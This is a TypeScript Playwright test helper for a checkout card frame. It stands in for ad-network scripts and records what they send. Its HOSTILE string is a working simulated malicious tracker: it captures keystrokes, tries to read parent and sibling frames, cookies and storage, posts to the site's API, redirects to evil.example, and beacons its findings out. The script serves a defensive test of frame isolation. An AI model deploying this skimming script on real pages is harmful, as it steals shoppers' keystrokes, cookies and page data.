import type { BrowserContext } from 'playwright-core';
import { CONNECT, READY } from '../../../web/src/checkout/card/protocol.ts';

/** What a network was told, by the name of the network. */
export interface Told {
  readonly network: string;
  readonly call: readonly unknown[];
}

const HOSTS =
  /^https:\/\/([\w.-]+\.)?(facebook\.(net|com)|tiktok\.com|kwai\.net|googletagmanager\.com|evil\.example)\//;
const GIF = Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64');

/** Runs in the frame: tells its network of a call, as a picture of an address of its own does. */
const SEND = (network: string, host: string) =>
  `const send = (call) => { new Image().src = 'https://${host}/tr?network=${network}&at=' + performance.now() + '&call=' + encodeURIComponent(JSON.stringify(call)); };`;

const OF_SDK = (network: string, host: string, name: string) => `{
  ${SEND(network, host)}
  const queues = [${name}, ...Object.values(${name}._i)];
  for (const queue of queues) {
    for (const call of queue.splice(0)) send(call);
    queue.push = (call) => { send(call); return 0; };
  }
}`;

/** What each network's script does here: it takes over what is queued, and tells it. */
const SCRIPTS: readonly (readonly [RegExp, string])[] = [
  [
    /fbevents\.js$/,
    `{
  ${SEND('facebook', 'www.facebook.com')}
  fbq.callMethod = (...call) => send(call);
  for (const call of fbq.queue.splice(0)) send(call);
}`,
  ],
  [/tiktok\.com\/.*events\.js/, OF_SDK('tiktok', 'analytics.tiktok.com', 'ttq')],
  [/kwai\.net\/.*events\.js/, OF_SDK('kwai', 's1.kwai.net', 'kwaiq')],
  [
    /gtag\/js/,
    `{
  ${SEND('google', 'www.googletagmanager.com')}
  for (const call of dataLayer.splice(0)) send([...call]);
  dataLayer.push = (call) => { send([...call]); return 0; };
}`,
  ],
];

/** Stands in for the networks, and notes what a browser tells them. `script` is Facebook's own. */
export async function fakeNetworks(context: BrowserContext, script?: string) {
  const told: Told[] = [];
  const asked: string[] = [];
  await context.route(HOSTS, async (route) => {
    const url = route.request().url();
    asked.push(`${decodeURIComponent(url)} ${JSON.stringify(await route.request().allHeaders())}`);
    const { searchParams } = new URL(url);
    const call = searchParams.get('call');
    if (call !== null)
      told.push({ network: searchParams.get('network') ?? '', call: JSON.parse(call) as unknown[] });
    const [, known] = SCRIPTS.find(([pattern]) => pattern.test(url)) ?? [];
    const isFacebook = url.endsWith('fbevents.js');
    const body = call === null ? (isFacebook && script) || known : undefined;
    await route.fulfill(
      body === undefined
        ? { contentType: 'image/gif', body: GIF }
        : { contentType: 'text/javascript', body },
    );
  });
  return {
    /** All that was asked of the networks, with addresses and headers. */
    asked: () => asked.join('\n'),
    told: (network: string) => told.flatMap((each) => (each.network === network ? [each.call] : [])),
  };
}

/** Facebook's, which looks for its click where it keeps it: once the page has been told. */
export const CLICKS_READ = `{
  ${SEND('facebook', 'www.facebook.com')}
  fbq.callMethod = () => send(['cookie', /_fbc=([^;]*)/.exec(document.cookie)?.[1]]);
  for (const call of fbq.queue.splice(0)) fbq.callMethod(...call);
}`;

/**
 * What a network's script would do that is out for the form: it reaches for the page, for every
 * other frame, for what the browser keeps and for whoever listens, and tells what came of each.
 */
export const HOSTILE = `(async () => {
  ${SEND('facebook', 'www.facebook.com')}
  const attempt = async (what, work) => {
    try { send([what, 'got', String(await work())]); } catch (error) { send([what, 'refused', error.name]); }
  };
  await attempt('page', () => parent.document.body.innerHTML);
  await attempt('top', () => top.document.cookie);
  await attempt('address', () => parent.location.href);
  await attempt('cookies', () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document));
  await attempt('storage', () => {
    // Another window of the same origin, where nothing stands in the storage's place.
    const inner = document.body.appendChild(document.createElement('iframe'));
    return inner.contentWindow.localStorage.length;
  });
  await attempt('database', () => new Promise((found, failed) => { const asked = indexedDB.open('x'); asked.onsuccess = () => found('open'); asked.onerror = () => failed(asked.error); }));
  await attempt('own api', () => fetch('/graphql', { method: 'POST', credentials: 'include', body: '{}' }));
  await attempt('elsewhere', () => fetch('https://evil.example/'));
  await attempt('window', () => { if (!open('https://evil.example/')) throw new DOMException('', 'NotOpened'); });
  await attempt('navigation', () => { top.location.href = 'https://evil.example/'; });
  addEventListener('keydown', (event) => send(['key', 'got', event.key]), true);
  // What the page says of other networks' clicks is in the message itself, which is not for it.
  addEventListener('message', ({ data }) => send(['message', 'got', JSON.stringify(data)]), true);
  const hear = (call) => {
    send(['heard ' + call[1], 'got', JSON.stringify(call)]);
    // There is nothing to be heard after it.
    if (call[1] === 'Purchase') setTimeout(() => { location.href = 'https://evil.example/'; }, 300);
  };
  fbq.callMethod = (...call) => hear(call);
  for (const call of fbq.queue.splice(0)) hear(call);
  const reached = new Set();
  setInterval(() => {
    for (let index = 0; index < parent.frames.length; index += 1) {
      const frame = parent.frames[index];
      if (frame === window || reached.has(index)) continue;
      reached.add(index);
      void attempt('frame', () => frame.document.body.innerHTML);
      void attempt('move', () => { frame.location.href = 'https://evil.example/'; });
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = (event) => send(['port', 'got', JSON.stringify(event.data)]);
      frame.postMessage('${CONNECT}', '*', [port2]);
    }
  }, 50);
  parent.postMessage({ type: '${READY}', documentId: 'mine' }, '*');
  send(['names', 'got', [location.href, document.referrer, self.origin, name].join(' ')]);
})()`;
